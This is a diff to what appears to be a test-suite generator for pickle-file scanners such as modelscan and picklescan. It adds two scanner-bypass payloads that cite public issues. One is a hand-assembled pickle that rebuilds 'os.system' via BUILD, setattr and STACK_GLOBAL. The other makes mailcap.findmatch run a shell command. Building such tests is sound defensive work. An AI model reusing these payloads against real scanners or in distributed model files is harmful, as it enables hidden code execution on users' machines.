@@ -215,6 +215,15 @@ def _items() -> list[Item]:
         group="bypass")
     add("b_payload_in_storage_member", lambda m: torch_zip(good_state_pickle(), {"0": dumps(system_call(m), 4)}),
         runs=False, group="bypass")
+    # modelscan issue 85: BUILD sets attributes of an allowed global to strings, fetched back as
+    # globals and fed to STACK_GLOBAL through the memo
+    add("b_build_setattr_stack_global", lambda m: _z(
+        b"\x80\x04cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0"
+        b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93" + dumps((_sh(m),))[2:-1] + b"R."),
+        group="bypass")
+    # picklescan PR 69 / modelscan PR 346: mailcap.findmatch runs an entry's test command
+    add("b_mailcap_findmatch", lambda m: _z(dumps(R(G("mailcap", "findmatch"), (
+        {"text/plain": [{"view": "cat %s", "test": _sh(m)}]}, "text/plain")))), group="bypass")
     add("b_bin_suffix", lambda m: _z(dumps(system_call(m))), suffix=".bin", group="bypass")
     # picklescan #66 / #74 (GHSA-vvpj-8cmc-gx39 follow-up): resolvers that return any callable
     add("b_importlib_getattr_chain", lambda m: _z(dumps(R(R(G("builtins", "getattr"), (
